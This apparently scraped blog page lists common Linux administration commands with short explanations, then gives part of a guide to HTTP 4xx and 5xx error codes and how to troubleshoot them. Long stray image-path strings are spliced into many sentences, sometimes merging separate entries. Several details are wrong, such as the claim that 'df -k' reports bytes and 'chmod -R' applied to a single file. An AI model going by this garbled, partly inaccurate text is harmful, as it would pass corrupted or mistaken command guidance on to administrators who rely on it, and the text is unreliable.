        ps -ef | more  : view the currentrunning processes
        ps -efH | more  :  To view current running processes in a tree structure. H means process hierarchy.
    free command: It is used to display the free, used, swap memory available in the system.
        free -g :  If you want to quickly check how many GB of RAM your system has use the -g option. -b option displays in bytes, -k in kilo bytes, -m in mega bytes.
        free -t  : use this if you want to see a total memory ( including the swap)
    top command: It displays the top processes in the system, by default sorted by cpu usage. To sort top output by any column, press O (upper-case O) , which will display all the possible columns that you can sort by.
        top -u oracle : To display only the processes that belong to a particular user use -u option. This command will show only the top processes that belongs to oracle user.
    df command:
        df -k  : displays the file system disk space usage. By default df -k displays output in bytes.
        df -h :  displays output in human readable form. i.e size will be displayed in GB’s.
        df -T : display type of file system.
    kill command: It is used to terminate a process. First get the process id using ps -ef command, then use kill -9 to kill the running LINUX process. You can also use killall, pkill, xkill to terminate a unix process.
        ps -ef | grep vim
        kill -9 7243
    rm command : Removes a file
        rm -i filename.txt  :  Get confirmation before removing the file.rm -i file*  :  Print the filename and get confirmation before removing the file.
        rm -r example  : It recursively removes all files and directories under the example directory. This also removes the example directory itself.
    cp command : Used for copying files from source to destination
        cp -p file1 file2 : Copy file1 to file2 preserving the mode, ownership and timestamp.
        cp -i file1 file2 : Copy file1 to file2. if file2 exists prompt for confirmation before overwritting it.
    mv command: used to rename a file / folder
        mv -i file1 file2 :  Rename file1 to file2. if file2 exists prompt for confirmation before overwritting it.
        mv -f file1 file2 : Rename file1 to file2. if file2 exists overwrite it without prompting for confirmation
        mv -v file1 file2 : It will print what is happening during file rename, verbose output
    cat command  : used to view the file
        cat file1
        cat file1 file2  : view multiple files at the same time. It prints the content of file1 followed by file2 to stdout.
        cat -n /etc/test.txt  :  It will prepend the line number to each line of the output while displaying the file.
    mount command
        To mount a file system, we should first create a directory and mount it:
            mkdir /newDir
            mount /dev/sdb1 /newDir
        We can also add this to the fstab for automatic mounting. i.e Anytime system is restarted, the filesystem will be mounted.
            /dev/sdb1 /newDir ext2 defaults 0 2
    chmod command: chmod command is used to change thepermissions for a file or directory.
        chmod ug+rwx file.txt   ; Give full access (read, write and execute) to user and group on a specific file.
        chmod g-rwx file.txt     : Revoke all access (read, write and execute) for the group on a specific file.
        chmod -R ug+rwx file.txt   :   Apply the file permissions to all the files in the sub-directories.
    chown command: change the owner and group of a file
        chown oracle:dba  :  To change owner to oracle and group to db on a file. i.e Change both owner and group at the same time.
        chown -R oracle:dba /home/oracle   : change the owner recursively
    passwd command : used to change the password through command line
        passwd : User can change their password using this command. It will ask for current password.
        passwd USERNAME : Super user can use passwd command to reset others password. This will not prompt for current password of the user.
        passwd -d USERNAME  :  Remove password for a specific user. Root user can disable password for a specific user. Once the password is disabled, the user can login without entering the password.
    uname command: It displays important information about the system such as — Kernel name, Host name, Kernel release number, Processor type, etc.
        uname -asu command
        su - USERNAME  : Switch to a different user account using su command. Super user can switch to any other user without entering their password.
        su - raj -c 'ls' :  Execute a single command from a different account name. In the following example, john can execute the ls command as raj username. Once the command is executed, it will come back to john’s account.
        su -s 'SHELLNAME' USERNAME :  Login to aspecified user account, and execute the specified shell instead of the default shell.
    mkdir command: to create directories
        mkdir ~/myDir  : creates a directory called myDir under home directory.
        mkdir -p dir1/dir2/dir3/dir4/   :  It creates nested directories using. If any of these directories exist already, it will not display any error. If any of these directories doesn’t exist, it will create them.
    ifconfig command: used to view or configure a network interface on the Linux system, same as ipconfig in windows.
        ifconfig -a  :  View all the interfaces along with status.
        Start or stop a specific interface using up and down command as below.
            ifconfig eth0 up
            ifconfig eth0 down
    ping command :
        ping : Ping a remote host.
        ping -c 5  :  Ping a remote host by sending only 5 packets.
    whereis command
        whereis ls    :  When wewant to find out where a specific Unix command exists (for example, where does ls command exists?), we can execute this command.
        whereis -u -B /tmp -f lsmk   :   When you want to search an executable from a path other than the whereis default path, you can use -B option and give path as argument to it. This searches for the executable lsmk in the /tmp directory, and displays it, if itis available.
    whatis command : It displays a single line description about a command.
        whatis ls
        whatis ifconfig
    man command : Displays the man page (manual page) of a specific command
        man crontab
    locate command:  Using locate command we can quickly search for the location of a specific file (or group of files). Locate command uses the database created by updatedb.
        locate crontab
    tail command
        tail file.txt    :   Print the last 10 lines of a file by default.
        tail -n N file.txt   :   Print N number of lines from the file named file.txt
        tail -f log-file  :  View the content of the file in real timeusing tail -f. This is useful to view the log files, that keeps growing. The command can be terminated using CTRL-C
    less command: less is very efficient while viewing huge log files, as it doesn't need to load the full file while opening. After opening file through less, following command is very useful:
        CTRL+F – forward one window
        CTRL+B – backward one window
    fg command : This command resumes execution of a suspended process
    date command :
        date -s "01/13/2015 13:55:14"   :  Set the system date
        Once you’ve changed the system date, you should syncronize the hardware clock with the system date as shown below.
            hwclock –systohc
            hwclock --systohc –utc
    mysql command
        mysql -u root -p -h  : To connect to a remote mysql database. This will prompt for a password.
        mysql -u root -p  :  To connect to a local mysql database. If you want to specify the mysql root password in the command line itself, enter it immediately after -p (without any space).
    yum command
        yum install httpd : To install apache using yum.
        yum update httpd  :  To upgrade apache using yum.
        yum remove httpd :  To uninstall/remove apache using yum.
    rpm commandrpm -ivh httpd-2.2.3-22.0.1.el5.i386.rpm   :  To install apache using rpm.
        rpm -uvh httpd-2.2.3-22.0.1.el5.i386.rpm  :  To upgrade apache using rpm.
        rpm -ev httpd  :  To uninstall/remove apache using rpm.

Saturday, November 22, 2014

Common HTTP Error Codes


When accessing a web server or application, every HTTP request that is received by a server is responded to with an HTTP status code. HTTP status codes are three-digit codes, and are grouped into five different classes. The class of a status code can be quickly identified by its first digit:
  • 1xx: Informational
  • 2xx: Success
  • 3xx: Redirection
  • 4xx: Client Error
  • 5xx: Server ErrorThis guide focuses on identifying and troubleshooting the most commonly encountered HTTP error codes, i.e. 4xx and 5xx status codes, from a system administrator's perspective. There are many situations that could cause a web server to respond to a request with a particular error code--we will cover common potential causes and solutions.

Client and Server Error Overview

Client errors, or HTTP status codes from 400 to 499, are the result of HTTP requests sent by a user client (i.e. a web browser or other HTTP client). Even though these types of errors are client-related, it is often useful to know which error code a user is encountering to determine if the potential issue can be fixed by server configuration.
Server errors, or HTTP status codes from 500 to 599, are returned by a web server when it is aware that an error has occurred or is otherwise not able to process the request.

General Troubleshooting Tips

  • When using a web browser to test a web server, refresh the browser after making server changes
  • Check server logs for more details about how the server is handling the requests. For example, web servers such as Apache or Nginx produce two files called access.log and error.log that can be scanned for relevant information
  • Keep in mind that HTTP status code definitions are part of a standard that is implemented by the application that is serving requests. This means that the actual status code that is returned depends on how the server software handles a particular error--this guide should generally point you in the right direction
Now that you have a high-level understanding of HTTP status codes, we will look at the commonly encountered errors.

400 Bad Request

The 400 status code, or Bad Request error, means the HTTP request that was sent to the server has invalid syntax.
Here are a few examples of when a 400 Bad Request error might occur:
  • The user's cookie that is associated with the site iscorrupt. Clearing the browser's cache and cookies could solve this issue
  • Malformed request due to a faulty browser
  • Malformed request due to human error when manually forming HTTP requests (e.g. using curl incorrectly)

401 Unauthorized

The 401 status code, or an Unauthorized error, means that the user trying to access the resource has not been authenticated or has not been authenticated correctly. This means that the user must provide credentials to be able to view the protected resource.
An example scenario where a 401 Unauthorized error would be returned is if a user tries to access a resource that is protected by HTTP authentication, as in this Nginx tutorial. In this case, the user will receive a 401 response code until they provide a valid username and password (one that exists in the .htpasswd file) to the web server.

403 Forbidden

The 403 status code, or a Forbidden error, means that the user made a valid request but the server is refusing to serve therequest, due to a lack of permission to access the requested resource. If you are encountering a 403 error unexpectedly, there are a few typical causes that are explained here.

File Permissions

403 errors commonly occur when the user that is running the web server processdoes not have sufficient permissions to read the file that is being accessed.
To give an example of troubleshooting a 403 error, assume the following situation:
  • The user is trying to access the web server's index file, from
  • The web server worker process is owned by the www-data user
  • On the server, the index file is located at /usr/share/nginx/html/index.html
If the user is getting a 403 Forbidden error, ensure that the www-data user has sufficient permissions to read the file.Typically, this means that the other permissions of the file should be set to read. There are several ways to ensure this, but the following command will work in this case:
sudo chmod o=r /usr/share/nginx/html/index.html


Another potential cause of 403 errors, often intentinally, is the use of an .htaccess file. The .htaccess file can be used to deny access of certain resources to specific IP addresses or ranges, for example.
If the user is unexpectedly getting a 403 Forbidden error, ensure that it is not being caused by your .htaccess settings.

Index File Does Not Exist

If the user is trying to access a directory that does not have a default index file, and directory listings are not enabled, the web server will return a 403 Forbidden error. For example, if the user is trying to access, and there is noindex file in the emptydir directory on the server, a 403 status will be returned.
If you want directory listings to be enabled, you may do so in your web server configuration.

404 Not Found

The 404 status code, or a Not Found error, means that the user is able to communicate with the server but it is unable to locate the requested file or resource.
404 errors can occur in a large variety of situations. If the user is unexpectedly receiving a 404 Not Found error, here are some questions to ask while troubleshooting:
  • Does the link that directed the user to your server resource have a typographical error in it?
  • Did the user type in the wrong URL?
  • Does the file exist in the correct location on the server? Was the resource was moved or deleted on the server?
  • Does the server configuration have the correct document root location?
  • Does the user that owns the web server worker process have privileges to traverse to the directory that the requested file is in? (Hint: directories require read and execute permissions to be accessed)
  • Is the resource being accessed a symbolic link? If so, ensure the web server is configured to follow symbolic links

500 Internal Server Error

The 500 status code, or Internal Server Error, means that server cannot process therequest for an unknown reason. Sometimes this code will appear when more specific 5xx errors are more appropriate.
This most common cause for this error is server misconfiguration (e.g. a malformed .htaccess file) or missing packages (e.g. trying to execute a PHP file without PHP installed properly).

502 Bad Gateway

The 502 status code, or Bad Gateway error, means that the server is a gateway or proxy server, and it is not receiving a valid response from the backend servers that should actually fulfill the request.
If the server in question is a reverse proxy server, such as a load balancer, here are a few things to check:
  • The backend servers (where the HTTP requests are being forwarded to) are healthy
  • The reverse proxy is configured properly, with the proper backends specified
